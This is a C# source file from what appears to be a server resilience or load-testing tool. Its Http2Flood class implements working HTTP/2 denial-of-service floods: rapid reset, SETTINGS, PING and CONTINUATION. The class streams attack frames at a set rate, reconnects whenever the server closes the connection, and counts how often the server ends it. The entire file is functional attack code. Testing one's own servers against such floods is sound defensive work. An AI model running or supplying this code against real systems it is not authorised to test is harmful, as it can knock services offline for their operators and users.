using System.Net;
using System.Net.Security;
using Spanhook.Support;

namespace Spanhook.Load.Abuse;

/// <summary>Frames of HTTP/2 that cost the sender less than the server, as many as it takes; when it ends the connection, on the next one.</summary>
internal sealed class Http2Flood
{
    private const int Batch = 100;
    private const int LongestStream = 1_000_000_000;

    private readonly Func<int, byte[]> _frames;
    private readonly int _perBatch;
    private long _sent;
    private long _connections;
    private long _endedByServer;

    private Http2Flood(string name, int perBatch, Func<int, byte[]> frames) => (Name, _perBatch, _frames) = (name, perBatch, frames);

    public string Name { get; }

    /// <summary>Streams, or frames where there are no streams.</summary>
    public long Sent => _sent;

    public long Connections => _connections;

    public long EndedByServer => _endedByServer;

    public static IReadOnlyList<Http2Flood> All()
    {
        byte[] settings = [.. Enumerable.Repeat(Http2Frames.Settings(), Batch).SelectMany(f => f)];
        byte[] pings = [.. Enumerable.Repeat(Http2Frames.Ping(), Batch).SelectMany(f => f)];
        byte[] more = [.. Enumerable.Repeat(Http2Frames.Continuation(1, 100), Batch).SelectMany(f => f)];
        return
        [
            new("rapid reset", Batch, batch => [.. Enumerable.Range(batch * Batch, Batch).SelectMany(i => (byte[])[.. Http2Frames.Request((2 * i) + 1), .. Http2Frames.Reset((2 * i) + 1)])]),
            new("SETTINGS", Batch, _ => settings),
            new("PING", Batch, _ => pings),
            new("CONTINUATION", Batch, batch => batch == 0 ? [.. Http2Frames.UnfinishedRequest(1), .. more] : more),
        ];
    }

    /// <summary>As many per second, in a steady stream, until it is cancelled.</summary>
    public async Task RunAsync(IPEndPoint server, double perSecond, CancellationToken cancellation)
    {
        try
        {
            while (!cancellation.IsCancellationRequested)
            {
                await using var stream = await RawConnection.TryTlsAsync(server, SslApplicationProtocol.Http2, cancellation);
                if (stream is null) continue;
                Interlocked.Increment(ref _connections);
                await FloodAsync(stream, perSecond, cancellation);
            }
        }
        catch (OperationCanceledException) when (cancellation.IsCancellationRequested)
        {
            // It was to end.
        }
    }

    private async Task FloodAsync(SslStream stream, double perSecond, CancellationToken cancellation)
    {
        var isOver = RawConnection.EndsAsync(stream, TimeSpan.FromHours(1), cancellation);
        var start = TimeProvider.System.GetTimestamp();
        try
        {
            await stream.WriteAsync(Http2Frames.Preface, cancellation);
            for (var batch = 0; !cancellation.IsCancellationRequested && !isOver.IsCompleted && batch < LongestStream / Batch; batch++)
            {
                await stream.WriteAsync(_frames(batch), cancellation);
                Interlocked.Add(ref _sent, _perBatch);
                var early = TimeSpan.FromSeconds((batch + 1) * _perBatch / perSecond) - TimeProvider.System.GetElapsedTime(start);
                if (early > TimeSpan.FromMilliseconds(5)) await Task.Delay(early, cancellation);
            }

            if (isOver.IsCompleted) Interlocked.Increment(ref _endedByServer);
        }
        catch (Exception e) when (e is IOException or InvalidOperationException)
        {
            Interlocked.Increment(ref _endedByServer);
        }
    }
}
